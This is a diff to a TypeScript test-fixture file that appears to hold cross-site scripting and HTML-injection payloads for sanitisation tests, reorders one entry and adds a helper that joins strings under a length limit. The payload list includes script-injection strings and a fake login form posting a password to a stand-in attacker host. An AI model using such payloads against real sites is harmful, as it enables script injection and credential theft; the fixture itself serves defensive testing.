@@ -10,10 +10,11 @@ export const scripts = [
   "<svg onload=alert(1)>",
   "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
   "<style>*{display:none}</style>",
-  "<!--<script>",
   "{{constructor.constructor('alert(1)')()}}",
   "&lt;script&gt;alert(1)&lt;/script&gt;",
   "<form action=https://evil.example><input name=password>",
+  // Last, because it swallows what follows it in one text.
+  "<!--<script>",
 ];
 
 const links = [
@@ -78,6 +79,17 @@ export const names = [
   "Ẹ̀kọ́ ɗan ƙasa ƴa </title><script>alert(1)</script>",
   ...scripts.filter((text) => !/[\u2028\u2029]/.test(text)),
 ];
+
+/** As few texts as hold all of these, one after the other, where each may be so long. */
+export function joinTexts(texts: readonly string[], maxLength: number): string[] {
+  const joined: string[] = [];
+  for (const text of texts) {
+    const longer = `${joined.at(-1)} ${text}`;
+    if (joined.length === 0 || longer.length > maxLength) joined.push(text);
+    else joined[joined.length - 1] = longer;
+  }
+  return joined;
+}
 
 /** Names that mean something to a mail's head. */
 export const mailNames = [
